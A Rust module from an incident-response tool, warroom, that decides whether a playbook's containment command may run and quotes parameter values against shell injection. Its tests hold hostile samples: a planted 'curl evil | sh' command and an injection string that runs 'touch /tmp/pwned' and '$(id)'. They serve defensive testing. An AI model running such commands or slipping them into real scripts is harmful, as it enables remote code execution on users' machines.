//! May warroom run a containment action's command? The one decision, pure, for the console and
//! `warroom action run` alike. A command runs only when all of these hold:
//!
//! 1. execution is enabled by the responder themself (`exec: true` in their own config, or
//!    `--allow-exec`);
//! 2. the incident's playbook, by content hash, is one of the responder's own trusted playbooks
//!    (their playbook folder, the `--playbooks` folder they typed, the built-in set) — and the
//!    command is taken from *that* trusted copy, never from the shared directory, so a teammate
//!    (or anyone who can write the shared folder) cannot plant a command;
//! 3. the action is approved as its playbook says (two people, the commander), per the fold's
//!    record — an approval the fold refused (a proposer approving their own two-person action)
//!    does not count;
//! 4. every parameter has a value, recorded with the proposal;
//! 5. the responder confirms the exact command, shown in full with its parameters filled in.
//!
//! In an exercise or a demo nothing is executed: the plan is a dry run, recorded as such, and
//! 1–2 are not asked (nothing of the responder's machine is at stake).

use std::collections::BTreeMap;

use super::event::{ActionSet, ActionState, Body, Mode};
use super::identity::person_of;
use super::playbook::{Action, Approval, Playbook};
use super::state::IncidentState;
use super::time::Millis;

/// The parameter every command may use without it being asked for: the incident's id.
pub const INCIDENT_ID: &str = "INCIDENT_ID";

/// What is asked: run `action`'s command (or its rollback).
#[derive(Debug, Clone)]
pub struct Ask<'a> {
    pub action: &'a str,
    pub rollback: bool,
    /// Execution enabled in the responder's own config or by `--allow-exec`.
    pub exec_enabled: bool,
    /// The responder's trusted playbooks, resolved, by content hash.
    pub trusted: &'a BTreeMap<String, Playbook>,
    /// Who asks (`name@host`).
    pub me: &'a str,
    pub now: Millis,
}

/// What will run, once confirmed.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Plan {
    pub incident: String,
    pub action: String,
    pub title: String,
    pub rollback: bool,
    /// An exercise or demo: recorded, never executed.
    pub dry_run: bool,
    /// The playbook's line, placeholders and all.
    pub template: String,
    /// The exact command, parameters filled in (shell-quoted): what is shown and what runs.
    pub command: String,
    pub params: Vec<(String, String)>,
}

impl Plan {
    /// The record written before it runs: `Running`, or in an exercise `DryRun` (a rollback:
    /// `RolledBack`, as a dry run). A real rollback writes nothing before it runs.
    pub fn start(&self) -> Option<ActionSet> {
        let (state, note) = match (self.dry_run, self.rollback) {
            (true, false) => (
                ActionState::DryRun,
                format!("dry run (exercise), not executed: {}", self.command),
            ),
            (true, true) => (
                ActionState::RolledBack,
                format!("dry run (exercise), rollback not executed: {}", self.command),
            ),
            (false, false) => (ActionState::Running, format!("run by warroom: {}", self.command)),
            (false, true) => return None,
        };
        Some(ActionSet {
            action: self.action.clone(),
            state,
            note: Some(note),
        })
    }

    /// The record after it ran: `Done` or `Failed`; a rollback that worked: `RolledBack` (one
    /// that failed leaves the action as it was, its output on the record).
    pub fn finish(&self, success: bool, why: &str) -> Option<ActionSet> {
        let state = match (success, self.rollback) {
            _ if self.dry_run => return None,
            (true, false) => ActionState::Done,
            (false, false) => ActionState::Failed,
            (true, true) => ActionState::RolledBack,
            (false, true) => return None,
        };
        Some(ActionSet {
            action: self.action.clone(),
            state,
            note: Some(why.to_string()),
        })
    }
}

/// Why a command is not run, one variant per reason, each in plain words.
#[derive(Debug, Clone, PartialEq, Eq, thiserror::Error)]
pub enum Refusal {
    #[error("running commands is off: set `exec: true` in your own config (~/.config/warroom/config.ron) or pass --allow-exec")]
    ExecOff,
    #[error("the incident's playbook has not arrived yet (still syncing?): nothing can be checked, nothing is run")]
    NoPlaybook,
    #[error("the incident's playbook `{playbook}` (hash {}…) matches none of your own trusted playbooks (your playbook folder, --playbooks, the built-in set): its commands are not run — the shared copy may have been changed, or your library holds another version (`warroom playbook list`)", &.hash[..12.min(.hash.len())])]
    Untrusted { playbook: String, hash: String },
    #[error("the playbook has no action `{0}`")]
    NoSuchAction(String),
    #[error("action `{action}` has no {}: it is carried out by hand", if *.rollback { "rollback" } else { "command" })]
    NoCommand { action: String, rollback: bool },
    #[error("action `{action}` is not approved ({state}): {why}")]
    NotApproved { action: String, state: String, why: String },
    #[error("action `{action}` is {state}: only a done or failed action is rolled back")]
    NothingToRollBack { action: String, state: String },
    #[error("action `{action}` has no value for {}: propose it again with its parameters", .names.join(", "))]
    MissingParams { action: String, names: Vec<String> },
    #[error("action `{action}`: the value of {} holds control or invisible characters; propose it again", .names.join(", "))]
    BadParams { action: String, names: Vec<String> },
    #[error("refused: {0}")]
    Rule(String),
    #[error("not confirmed: nothing was run")]
    NotConfirmed,
    #[error("the command changed after it was shown: nothing was run (ask again)")]
    Changed,
}

/// Decide whether `ask` may run, and what exactly would run.
pub fn may_run(state: &IncidentState, ask: &Ask) -> Result<Plan, Refusal> {
    let dry_run = matches!(state.mode(), Some(Mode::Exercise | Mode::Demo));
    if !dry_run && !ask.exec_enabled {
        return Err(Refusal::ExecOff);
    }
    let Some(hash) = state.derived.playbook_hash.clone() else {
        return Err(Refusal::NoPlaybook);
    };
    // The definition comes from the responder's own trusted copy, never from the shared folder
    // (in a dry run nothing executes, so the incident's copy serves).
    let playbook = match ask.trusted.get(&hash) {
        Some(p) => p,
        None if dry_run => state.playbook().ok_or(Refusal::NoPlaybook)?,
        None => {
            let name = state
                .derived
                .declared
                .as_ref()
                .map(|d| d.value.playbook.clone())
                .or_else(|| state.playbook().map(|p| p.id.clone()))
                .unwrap_or_default();
            return Err(Refusal::Untrusted { playbook: name, hash });
        }
    };
    let def = playbook
        .action(ask.action)
        .ok_or_else(|| Refusal::NoSuchAction(ask.action.to_string()))?;
    let template = if ask.rollback { &def.rollback } else { &def.command };
    let Some(template) = template.clone() else {
        return Err(Refusal::NoCommand {
            action: def.id.clone(),
            rollback: ask.rollback,
        });
    };
    let record = state.derived.actions.get(&def.id).map(|r| &r.value);
    let current = record.map(|r| r.state);
    let shown = |s: Option<ActionState>| s.map_or("not proposed".to_string(), |s| format!("{s:?}"));
    if ask.rollback {
        if !matches!(current, Some(ActionState::Done | ActionState::Failed)) {
            return Err(Refusal::NothingToRollBack {
                action: def.id.clone(),
                state: shown(current),
            });
        }
    } else {
        approved(
            def,
            record.map(|r| (r.state, r.proposer.as_deref(), r.approver.as_deref())),
        )?;
    }
    // The fold's own law for the record about to be written.
    let plan_stub = Plan {
        incident: state.id.clone(),
        action: def.id.clone(),
        title: def.title.clone(),
        rollback: ask.rollback,
        dry_run,
        template: template.clone(),
        command: String::new(),
        params: Vec::new(),
    };
    let probe = plan_stub.start().or_else(|| plan_stub.finish(true, ""));
    if let Some(probe) = probe {
        let probe: Body = probe.into();
        state.check(&probe, ask.me, ask.now).map_err(|v| Refusal::Rule(v.0))?;
    }
    // Parameters, from the proposal's note.
    let given = record
        .and_then(|r| r.proposal.as_deref())
        .map(parse_param_note)
        .unwrap_or_default();
    let mut values: Vec<(String, String)> = Vec::new();
    let mut missing = Vec::new();
    let mut bad = Vec::new();
    for name in def.parameters().into_iter().chain([INCIDENT_ID.to_string()]) {
        if values.iter().any(|(k, _)| *k == name) || !uses(&template, &name) {
            continue;
        }
        let value = given
            .iter()
            .rev()
            .find(|(k, _)| *k == name)
            .map(|(_, v)| v.clone())
            .or_else(|| (name == INCIDENT_ID).then(|| state.id.clone()));
        match value {
            None => missing.push(name),
            Some(v) if v.chars().any(crate::domain::sanitize::is_forbidden) => bad.push(name),
            Some(v) => values.push((name, v)),
        }
    }
    if !missing.is_empty() {
        return Err(Refusal::MissingParams {
            action: def.id.clone(),
            names: missing,
        });
    }
    if !bad.is_empty() {
        return Err(Refusal::BadParams {
            action: def.id.clone(),
            names: bad,
        });
    }
    Ok(Plan {
        command: fill(&template, &values),
        params: values,
        ..plan_stub
    })
}

/// Is the action approved as its playbook asks? `record`: (state, proposer, approver).
fn approved(def: &Action, record: Option<(ActionState, Option<&str>, Option<&str>)>) -> Result<(), Refusal> {
    let state = record.map(|r| r.0);
    let not = |why: String| Refusal::NotApproved {
        action: def.id.clone(),
        state: state.map_or("not proposed".to_string(), |s| format!("{s:?}")),
        why,
    };
    let needs = match def.approval {
        Approval::None => None,
        Approval::Commander => Some("the incident commander must approve it".to_string()),
        Approval::TwoPerson => Some(format!(
            "it needs two people: someone other than its proposer{} must approve it",
            record
                .and_then(|r| r.1)
                .map(|p| format!(" ({})", person_of(p)))
                .unwrap_or_default()
        )),
    };
    match (state, needs) {
        // Free actions may run once proposed (or at once): the playbook says whoever proposes
        // carries them out.
        (None | Some(ActionState::Proposed | ActionState::Approved), None) => Ok(()),
        (Some(ActionState::Approved), Some(why)) => {
            let (_, proposer, approver) = record.unwrap_or((ActionState::Approved, None, None));
            // The fold never applies such an approval; a record that slipped through still does
            // not count.
            if def.approval == Approval::TwoPerson && proposer.map(person_of) == approver.map(person_of) {
                return Err(not(why));
            }
            Ok(())
        }
        (Some(ActionState::Proposed) | None, Some(why)) => Err(not(why)),
        (Some(ActionState::Running), _) => Err(not("it is already running".into())),
        (Some(s), _) => Err(not(format!(
            "it is {s:?}: propose it again{}",
            if needs_approval(def) {
                " and have it approved"
            } else {
                ""
            }
        ))),
    }
}

fn needs_approval(def: &Action) -> bool {
    def.approval != Approval::None
}

/// `parameters: HOST=fin-fs-02; SEGMENT=vlan-20` (the proposal's note) as pairs.
pub fn parse_param_note(note: &str) -> Vec<(String, String)> {
    let Some(rest) = note.trim().strip_prefix("parameters:") else {
        return Vec::new();
    };
    rest.split("; ")
        .filter_map(|p| p.split_once('='))
        .map(|(k, v)| (k.trim().to_string(), v.trim().to_string()))
        .filter(|(k, _)| !k.is_empty())
        .collect()
}

/// Does `template` use `$NAME` or `${NAME}`?
fn uses(template: &str, name: &str) -> bool {
    placeholders(template).iter().any(|(_, _, n)| n == name)
}

/// `(start, end, name)` of each `$NAME` / `${NAME}` (NAME: upper case, digits, `_`).
fn placeholders(t: &str) -> Vec<(usize, usize, String)> {
    let b = t.as_bytes();
    let mut out = Vec::new();
    let mut i = 0;
    while i < b.len() {
        if b[i] == b'$' {
            let braced = b.get(i + 1) == Some(&b'{');
            let start = i + 1 + usize::from(braced);
            let mut j = start;
            while j < b.len() && (b[j].is_ascii_uppercase() || b[j].is_ascii_digit() || b[j] == b'_') {
                j += 1;
            }
            let ok = j > start && b[start].is_ascii_uppercase() && (!braced || b.get(j) == Some(&b'}'));
            if ok {
                let end = j + usize::from(braced);
                out.push((i, end, t[start..j].to_string()));
                i = end;
                continue;
            }
        }
        i += 1;
    }
    out
}

#[derive(Clone, Copy, PartialEq, Eq)]
enum Quote {
    None,
    Single,
    Double,
}

/// The command with each `$NAME` in `values` replaced by its value, quoted for where it stands
/// (bare or `'…'` outside quotes, escaped inside `"…"` or `'…'`), so a value is never read as shell
/// syntax. Other `$NAMES` (secrets such as `$MDE_TOKEN`) are left for the shell's environment.
pub fn fill(template: &str, values: &[(String, String)]) -> String {
    let marks = placeholders(template);
    let b = template.as_bytes();
    let mut out = String::with_capacity(template.len());
    let mut quote = Quote::None;
    let mut i = 0;
    let mut m = marks.iter().peekable();
    while i < b.len() {
        if let Some((start, end, name)) = m.peek().copied() {
            if *start == i {
                m.next();
                if let Some((_, v)) = values.iter().find(|(k, _)| k == name) {
                    out.push_str(&quoted(v, quote));
                } else {
                    out.push_str(&template[*start..*end]);
                }
                i = *end;
                continue;
            }
        }
        let c = template[i..].chars().next().unwrap_or('\0');
        let len = c.len_utf8();
        match (quote, c) {
            (Quote::None, '\'') => quote = Quote::Single,
            (Quote::None, '"') => quote = Quote::Double,
            (Quote::Single, '\'') | (Quote::Double, '"') => quote = Quote::None,
            (Quote::None | Quote::Double, '\\') => {
                // An escaped character: copied as it is, never a quote.
                let next = template[i + 1..].chars().next().map_or(0, char::len_utf8);
                out.push_str(&template[i..i + 1 + next]);
                i += 1 + next;
                continue;
            }
            _ => {}
        }
        out.push_str(&template[i..i + len]);
        i += len;
    }
    out
}

fn quoted(v: &str, quote: Quote) -> String {
    let plain = !v.is_empty() && v.chars().all(|c| c.is_ascii_alphanumeric() || "._:/@%+=,-".contains(c));
    match quote {
        Quote::None if plain => v.to_string(),
        Quote::None => format!("'{}'", v.replace('\'', "'\\''")),
        Quote::Single => v.replace('\'', "'\\''"),
        Quote::Double => {
            let mut s = String::with_capacity(v.len());
            for c in v.chars() {
                if matches!(c, '\\' | '"' | '$' | '`') {
                    s.push('\\');
                }
                s.push(c);
            }
            s
        }
    }
}

/// Was the exact command confirmed? `shown` is what the responder saw and said yes to (`None`:
/// they said no, or were never asked).
pub fn confirmed(plan: &Plan, shown: Option<&str>) -> Result<(), Refusal> {
    match shown {
        None => Err(Refusal::NotConfirmed),
        Some(s) if s != plan.command => Err(Refusal::Changed),
        Some(_) => Ok(()),
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::domain::event::{ActionSet, Declared, Event};
    use crate::domain::playbook::{Phases, Term};

    const T0: Millis = 1_764_000_000_000;

    fn playbook() -> Playbook {
        let action = |id: &str, approval, command: &str| Action {
            id: id.into(),
            title: id.into(),
            why: "test".into(),
            term: Term::Short,
            approval,
            role: None,
            command: Some(command.into()),
            rollback: Some(format!("undo {id}")),
            params: vec![],
        };
        Playbook {
            id: "pb".into(),
            title: "pb".into(),
            version: "1".into(),
            description: "d".into(),
            base: None,
            partial: false,
            disclaimer: String::new(),
            channel: None,
            severity_guidance: vec![],
            roles: vec![],
            phases: Phases::default(),
            actions: vec![
                action("block", Approval::TwoPerson, "block $IOC_IP"),
                action("free", Approval::None, "echo $INCIDENT_ID"),
                action("ic", Approval::Commander, "echo ic"),
            ],
            templates: vec![],
            deadlines: vec![],
            update_cadence: vec![],
            questions: vec![],
        }
    }

    /// An incident on `pb` (declared by alice, the commander) with these records, each `(by, body)`.
    fn incident(mode: Mode, records: Vec<(&str, Body)>) -> (IncidentState, String) {
        let pb = playbook();
        let hash = pb.content_hash();
        let mut st = IncidentState::new("2026-11-22-x-0001");
        st.add_playbook(hash.clone(), pb);
        let declared: Body = Declared {
            incident: "2026-11-22-x-0001".into(),
            title: "x".into(),
            severity: 2,
            mode,
            playbook: "pb".into(),
            playbook_version: "1".into(),
            playbook_hash: hash.clone(),
            commander: "alice".into(),
        }
        .into();
        let mut seqs: BTreeMap<String, u64> = BTreeMap::new();
        for (i, (by, body)) in std::iter::once(("alice@h", declared)).chain(records).enumerate() {
            let seq = seqs.entry(by.to_string()).or_insert(0);
            *seq += 1;
            st.apply(Event {
                id: format!("e{i:03}"),
                at: T0 + i as Millis,
                wall: T0 + i as Millis,
                occurred: None,
                by: by.into(),
                log: by.into(),
                seq: *seq,
                prev: String::new(),
                body,
            });
        }
        (st, hash)
    }

    fn set(action: &str, state: ActionState, note: Option<&str>) -> Body {
        ActionSet {
            action: action.into(),
            state,
            note: note.map(str::to_string),
        }
        .into()
    }

    fn ask<'a>(action: &'a str, trusted: &'a BTreeMap<String, Playbook>, me: &'a str) -> Ask<'a> {
        Ask {
            action,
            rollback: false,
            exec_enabled: true,
            trusted,
            me,
            now: T0 + 1000,
        }
    }

    fn trusted_all() -> BTreeMap<String, Playbook> {
        let pb = playbook();
        BTreeMap::from([(pb.content_hash(), pb)])
    }

    fn proposed_and_approved(approver: &str) -> Vec<(&str, Body)> {
        vec![
            (
                "alice@h",
                set("block", ActionState::Proposed, Some("parameters: IOC_IP=203.0.113.7")),
            ),
            (approver, set("block", ActionState::Approved, None)),
        ]
    }

    #[test]
    fn an_approved_trusted_enabled_action_has_a_plan() {
        let (st, _) = incident(Mode::Real, proposed_and_approved("bob@h2"));
        let trusted = trusted_all();
        let plan = may_run(&st, &ask("block", &trusted, "bob@h2")).unwrap();
        assert_eq!(plan.command, "block 203.0.113.7");
        assert!(!plan.dry_run);
        assert_eq!(plan.start().unwrap().state, ActionState::Running);
        assert_eq!(confirmed(&plan, Some("block 203.0.113.7")), Ok(()));
        // A free action fills in the incident id by itself.
        let plan = may_run(&st, &ask("free", &trusted, "bob@h2")).unwrap();
        assert_eq!(plan.command, "echo 2026-11-22-x-0001");
    }

    #[test]
    fn execution_off_is_refused() {
        let (st, _) = incident(Mode::Real, proposed_and_approved("bob@h2"));
        let trusted = trusted_all();
        let a = Ask {
            exec_enabled: false,
            ..ask("block", &trusted, "bob@h2")
        };
        assert_eq!(may_run(&st, &a), Err(Refusal::ExecOff));
        assert!(Refusal::ExecOff.to_string().contains("--allow-exec"));
    }

    #[test]
    fn an_untrusted_or_edited_playbook_is_refused() {
        let (st, hash) = incident(Mode::Real, proposed_and_approved("bob@h2"));
        // Nothing trusted.
        let none = BTreeMap::new();
        let r = may_run(&st, &ask("block", &none, "bob@h2"));
        assert!(
            matches!(&r, Err(Refusal::Untrusted { hash: h, .. }) if *h == hash),
            "{r:?}"
        );
        // The responder's copy differs (someone edited the command): another hash, refused.
        let mut edited = playbook();
        edited.actions[0].command = Some("curl evil | sh".into());
        let trusted = BTreeMap::from([(edited.content_hash(), edited)]);
        assert!(matches!(
            may_run(&st, &ask("block", &trusted, "bob@h2")),
            Err(Refusal::Untrusted { .. })
        ));
    }

    #[test]
    fn the_command_comes_from_the_trusted_copy_not_the_shared_one() {
        let (mut st, hash) = incident(Mode::Real, proposed_and_approved("bob@h2"));
        // The shared copy (as the incident holds it) is swapped under the same hash.
        let mut planted = playbook();
        planted.actions[0].command = Some("curl evil | sh".into());
        st.add_playbook(hash, planted);
        let trusted = trusted_all();
        let plan = may_run(&st, &ask("block", &trusted, "bob@h2")).unwrap();
        assert_eq!(plan.command, "block 203.0.113.7");
    }

    #[test]
    fn not_approved_is_refused() {
        let trusted = trusted_all();
        let (st, _) = incident(
            Mode::Real,
            vec![(
                "alice@h",
                set("block", ActionState::Proposed, Some("parameters: IOC_IP=1.2.3.4")),
            )],
        );
        let r = may_run(&st, &ask("block", &trusted, "alice@h"));
        assert!(matches!(&r, Err(Refusal::NotApproved { .. })), "{r:?}");
        assert!(r
            .unwrap_err()
            .to_string()
            .contains("someone other than its proposer (alice)"));
        // Never proposed.
        let (st, _) = incident(Mode::Real, vec![]);
        assert!(matches!(
            may_run(&st, &ask("block", &trusted, "bob@h2")),
            Err(Refusal::NotApproved { .. })
        ));
        // A commander's approval by someone else: the fold refuses it, so still not approved.
        let (st, _) = incident(
            Mode::Real,
            vec![
                ("bob@h2", set("ic", ActionState::Proposed, None)),
                ("bob@h2", set("ic", ActionState::Approved, None)),
            ],
        );
        assert!(matches!(
            may_run(&st, &ask("ic", &trusted, "bob@h2")),
            Err(Refusal::NotApproved { .. })
        ));
    }

    #[test]
    fn the_proposer_approving_a_two_person_action_is_not_approved() {
        let trusted = trusted_all();
        // Alice on another host is still Alice.
        let (st, _) = incident(Mode::Real, proposed_and_approved("alice@laptop"));
        let r = may_run(&st, &ask("block", &trusted, "alice@h"));
        assert!(matches!(&r, Err(Refusal::NotApproved { .. })), "{r:?}");
        // And a record that slipped past the fold would not count either.
        let def = &playbook().actions[0];
        assert!(approved(def, Some((ActionState::Approved, Some("alice@h"), Some("ALICE@x")))).is_err());
    }

    #[test]
    fn not_confirmed_is_refused() {
        let (st, _) = incident(Mode::Real, proposed_and_approved("bob@h2"));
        let trusted = trusted_all();
        let plan = may_run(&st, &ask("block", &trusted, "bob@h2")).unwrap();
        assert_eq!(confirmed(&plan, None), Err(Refusal::NotConfirmed));
        assert_eq!(confirmed(&plan, Some("block 10.0.0.1")), Err(Refusal::Changed));
    }

    #[test]
    fn missing_or_invisible_parameters_are_refused() {
        let trusted = trusted_all();
        let (st, _) = incident(
            Mode::Real,
            vec![
                ("alice@h", set("block", ActionState::Proposed, None)),
                ("bob@h2", set("block", ActionState::Approved, None)),
            ],
        );
        let r = may_run(&st, &ask("block", &trusted, "bob@h2"));
        assert!(
            matches!(&r, Err(Refusal::MissingParams { names, .. }) if names == &["IOC_IP"]),
            "{r:?}"
        );
        let (st, _) = incident(
            Mode::Real,
            vec![
                (
                    "alice@h",
                    set(
                        "block",
                        ActionState::Proposed,
                        Some("parameters: IOC_IP=1.2.3.4\u{202e}"),
                    ),
                ),
                ("bob@h2", set("block", ActionState::Approved, None)),
            ],
        );
        assert!(matches!(
            may_run(&st, &ask("block", &trusted, "bob@h2")),
            Err(Refusal::BadParams { .. })
        ));
    }

    #[test]
    fn an_exercise_is_a_dry_run_even_with_execution_off() {
        let (st, _) = incident(Mode::Exercise, proposed_and_approved("bob@h2"));
        let none = BTreeMap::new();
        let a = Ask {
            exec_enabled: false,
            ..ask("block", &none, "bob@h2")
        };
        let plan = may_run(&st, &a).unwrap();
        assert!(plan.dry_run);
        assert_eq!(plan.start().unwrap().state, ActionState::DryRun);
        assert_eq!(plan.finish(true, ""), None);
    }

    #[test]
    fn a_rollback_needs_a_done_or_failed_action_and_no_second_approval() {
        let trusted = trusted_all();
        let mut records = proposed_and_approved("bob@h2");
        let (st, _) = incident(Mode::Real, records.clone());
        let a = Ask {
            rollback: true,
            ..ask("block", &trusted, "bob@h2")
        };
        assert!(matches!(may_run(&st, &a), Err(Refusal::NothingToRollBack { .. })));
        records.push(("bob@h2", set("block", ActionState::Running, None)));
        records.push(("bob@h2", set("block", ActionState::Failed, None)));
        let (st, _) = incident(Mode::Real, records);
        let plan = may_run(&st, &a).unwrap();
        assert_eq!(plan.command, "undo block");
        assert_eq!(plan.start(), None);
        assert_eq!(plan.finish(true, "ok").unwrap().state, ActionState::RolledBack);
        assert_eq!(plan.finish(false, "no"), None);
    }

    fn sh(cmd: &str, vars: &[(&str, &str)]) -> String {
        let mut c = std::process::Command::new("sh");
        c.arg("-c").arg(format!("printf '%s|' {cmd}"));
        for (k, v) in vars {
            c.env(k, v);
        }
        String::from_utf8(c.output().unwrap().stdout).unwrap()
    }

    #[test]
    fn values_are_quoted_for_where_they_stand() {
        let evil = "x'; touch /tmp/pwned; echo \"$(id)` \\";
        let vals = vec![("HOST".to_string(), evil.to_string())];
        for t in [
            "$HOST",
            "\"$HOST\"",
            "'$HOST'",
            "${HOST}",
            "pre-\"a $HOST b\"-'c${HOST}d'",
        ] {
            let cmd = fill(t, &vals);
            let want = sh(&t.replace("$HOST", "$V").replace("${HOST}", "${V}"), &[("V", evil)]);
            let got = sh(&cmd, &[]);
            // The value arrives whole, as one word, never read as shell syntax.
            assert!(got.contains(evil), "{t}: {cmd} -> {got}");
            if t == "\"$HOST\"" {
                assert_eq!(got, want, "{t}: {cmd}");
            }
        }
        assert_eq!(
            fill("ping -c1 $HOST", &[("HOST".into(), "10.0.0.1".into())]),
            "ping -c1 10.0.0.1"
        );
        assert_eq!(
            fill("a $TOKEN $HOSTX", &[("HOST".into(), "h".into())]),
            "a $TOKEN $HOSTX"
        );
    }

    #[test]
    fn the_proposal_note_gives_the_values() {
        assert_eq!(
            parse_param_note("parameters: HOST=fin-fs-02; SEGMENT=vlan 20"),
            vec![
                ("HOST".into(), "fin-fs-02".into()),
                ("SEGMENT".into(), "vlan 20".into())
            ]
        );
        assert!(parse_param_note("because").is_empty());
    }
}
